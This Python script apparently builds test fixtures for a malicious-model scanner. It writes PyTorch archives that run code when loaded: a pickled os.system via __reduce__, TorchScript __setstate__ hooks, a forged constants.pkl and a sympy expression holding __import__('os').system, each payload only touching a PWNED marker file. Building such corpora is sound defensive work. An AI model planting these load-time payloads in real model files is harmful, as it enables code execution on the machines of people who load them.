"""Write the code archives of the malicious corpus with the real torch.jit.save and
torch.export.save, once: python tests/malicious/make_code_archives.py

DELIBERATELY MALICIOUS FILES. Never torch.jit.load, torch.load or torch.export.load anything
under code_archives/ outside a throwaway folder: each payload would run. Every payload is
harmless and detectable: it creates an empty file named PWNED-<case> in the current folder.

make_corpus.py needs no torch and writes the same bytes every run, so it copies these files
(cases_code.py); this script is the only one that runs torch, and its output is committed.
Under torch 2.13 two runs of this script write the same bytes: torch's entries carry its
fixed 1980-01-01 time and `.data/serialization_id` is derived from the records, not drawn at
random (TorchScript's debug records hold this file's line numbers: an edit changes them). Source
paths in TorchScript's debug records and torch.export's stack traces are made relative (the
script fails if an absolute path of this machine is left), as sample_checkpoints does. The
scripted payloads are torch's own operators (aten::save, aten::from_file); the pickled ones
are a torch.save of an object whose __reduce__ is os.system (posix.system on Linux); the
program's is a symbolic size that sympy evaluates.
"""

from __future__ import annotations

import io
import os
import re
import sys
import tempfile
import zipfile
from pathlib import Path

import torch

HERE = Path(__file__).resolve().parent
OUT = HERE / "code_archives"
DATE = (1980, 1, 1, 0, 0, 0)


class _System:
    """torch.save writes it as posix.system(command): whoever unpickles it runs the command."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


def _payload(case: str) -> bytes:
    buf = io.BytesIO()
    torch.save(_System(f"touch PWNED-{case}"), buf)
    return buf.getvalue()


def _replaced(src: Path, dst: Path, members: dict[str, bytes]) -> None:
    """The archive with some members' bytes replaced, every entry stored, as torch writes them."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = members.get(info.filename, None)
            zout.writestr(zipfile.ZipInfo(info.filename, DATE),
                          zin.read(info) if data is None else data)


def _relative_paths() -> None:
    """TorchScript's debug records name each source file: name this one by its name."""
    import torch._sources as sources
    import torch.jit.frontend as frontend

    real = sources.get_source_lines_and_file

    def relative(obj, error_msg=None):
        lines, lineno, filename = real(obj, error_msg)
        return lines, lineno, os.path.basename(filename)

    sources.get_source_lines_and_file = relative
    frontend.get_source_lines_and_file = relative


_relative_paths()  # before the first class below is scripted


# -- TorchScript ----------------------------------------------------------------------------

class SavesAtLoad(torch.nn.Module):
    """Its scripted __setstate__ runs at torch.jit.load and writes a file with torch.save."""

    def __init__(self):
        super().__init__()
        self.w = torch.ones(2)

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
        self.w = state[0]
        self.training = state[1]
        torch.save(self.w, "PWNED-code-jit-setstate-save")

    def forward(self, x):
        return x + self.w


@torch.jit.script
class Marker:
    """A scripted class whose __setstate__ creates a file with torch.from_file (shared)."""

    def __init__(self, v: int):
        self.v = v

    def __getstate__(self) -> int:
        return self.v

    def __setstate__(self, v: int) -> None:
        self.v = v + torch.numel(torch.from_file("PWNED-code-jit-constants-object", True, 4))


class UsesMarker(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.ones(2)

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def marker(self) -> Marker:  # so that torch.jit.save writes Marker's source
        return Marker(1)


def _scratch(tmp: Path, what: str, name: str) -> Path:
    """tmp/<what>/<name>: torch names an archive's root folder after its file (model/...)."""
    (tmp / what).mkdir()
    return tmp / what / name


def jit_setstate_save(dst: Path, tmp: Path) -> None:
    src = _scratch(tmp, "saves", "model.pt")
    torch.jit.save(torch.jit.script(SavesAtLoad()), str(src))
    _replaced(src, dst, {})


def jit_constants_object(dst: Path, tmp: Path) -> None:
    """constants.pkl replaced by a tuple holding a Marker object with its state: torch.jit.load
    rebuilds the constants table with TorchScript's unpickler, which runs Marker.__setstate__."""
    src = _scratch(tmp, "marker", "model.pt")
    torch.jit.save(torch.jit.script(UsesMarker()), str(src))
    with zipfile.ZipFile(src) as z:
        root = z.namelist()[0].split("/")[0]
        code = z.read(f"{root}/code/__torch__.py").decode()
    (cls,) = set(re.findall(r"__torch__\.(?:\w+\.)*Marker\b", code))
    module, _, name = cls.rpartition(".")
    pickle = b"\x80\x02c" + f"{module}\n{name}\n".encode() + b")\x81K\x01b\x85."
    _replaced(src, dst, {f"{root}/constants.pkl": pickle})


# -- torch.export ---------------------------------------------------------------------------

class WithSubclass(torch.nn.Module):
    """A tensor-subclass buffer: torch.export.save pickles it (use_pickle) as constant tensor_0."""

    def __init__(self):
        from torch.testing._internal.two_tensor import TwoTensor

        super().__init__()
        self.fc = torch.nn.Linear(3, 2)
        self.register_buffer("pair", TwoTensor(torch.ones(2), torch.ones(2)), persistent=False)

    def forward(self, x):
        return self.fc(x) + self.pair


class Plain(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(3, 2)

    def forward(self, x):
        return self.fc(x)


def _export(module: torch.nn.Module, dst: Path, args: tuple | None = None,
            dynamic=None) -> str:
    args = (torch.ones(1, 3),) if args is None else args
    ep = torch.export.export(module, args, dynamic_shapes=dynamic)
    for node in ep.graph_module.graph.nodes:  # stack traces name source files by full path
        if node.meta.get("stack_trace"):
            node.meta["stack_trace"] = re.sub(r'File "([^"]+)"',
                                              lambda m: f'File "{os.path.basename(m[1])}"',
                                              node.meta["stack_trace"])
    torch.export.save(ep, str(dst))
    with zipfile.ZipFile(dst) as z:
        return z.namelist()[0].split("/")[0]


def export_pickled_constant(dst: Path, tmp: Path) -> None:
    """The pickled constant (use_pickle) is a torch.save whose object is os.system(...):
    torch.export.load reads it with torch.load(weights_only=False)."""
    src = _scratch(tmp, "subclass", "model.pt2")
    root = _export(WithSubclass(), src)
    _replaced(src, dst, {f"{root}/data/constants/tensor_0":
                         _payload("code-export-pickled-constant")})


def export_sample_inputs(dst: Path, tmp: Path) -> None:
    """The sample inputs are a torch.save of os.system(...): torch.export.load tries
    torch.load(weights_only=True), then weights_only=False, which runs it."""
    src = _scratch(tmp, "plain", "model.pt2")
    root = _export(Plain(), src)
    _replaced(src, dst, {f"{root}/data/sample_inputs/model.pt":
                         _payload("code-export-sample-inputs")})


class Dynamic(torch.nn.Module):
    def forward(self, x):
        return x * 2


def export_sympy_expr(dst: Path, tmp: Path) -> None:
    """A symbolic size's expression, which torch.export.load hands to sympy.sympify, is Python
    that runs a command (torch writes it as sympy's srepr, `Symbol('s77', ...)`)."""
    src = _scratch(tmp, "dynamic", "model.pt2")
    root = _export(Dynamic(), src, (torch.ones(3, 4),), {"x": {0: torch.export.Dim("batch")}})
    with zipfile.ZipFile(src) as z:
        program = z.read(f"{root}/models/model.json").decode()
    expr = re.search(r'"expr_str": "(Symbol[^"]*)"', program)[1]
    payload = "__import__('os').system('touch PWNED-code-export-sympy-expr')"
    _replaced(src, dst, {f"{root}/models/model.json":
                         program.replace(expr, payload.replace("'", "\u0027"), 1).encode()})


def _leaks(path: Path) -> list[str]:
    """Absolute paths of this machine that a file (or a member of it) holds."""
    words = [str(HERE.parent.parent), str(Path.home()), "/tmp/", sys.prefix]
    blobs = [path.read_bytes()]
    with zipfile.ZipFile(path) as z:
        blobs += [z.read(i) for i in z.infolist()]
    return sorted({w for w in words for b in blobs if w.encode() in b})


def main() -> int:
    torch.manual_seed(0)
    OUT.mkdir(exist_ok=True)
    with tempfile.TemporaryDirectory() as t:
        tmp = Path(t)
        jit_setstate_save(OUT / "jit-setstate-save.pt", tmp)
        jit_constants_object(OUT / "jit-constants-object.pt", tmp)
        export_pickled_constant(OUT / "export-pickled-constant.pt2", tmp)
        export_sample_inputs(OUT / "export-sample-inputs.pt2", tmp)
        export_sympy_expr(OUT / "export-sympy-expr.pt2", tmp)
    bad = {p.name: _leaks(p) for p in sorted(OUT.iterdir()) if _leaks(p)}
    if bad:
        print(f"absolute paths in the output: {bad}", file=sys.stderr)
        return 1
    print(f"wrote {', '.join(p.name for p in sorted(OUT.iterdir()))} into {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
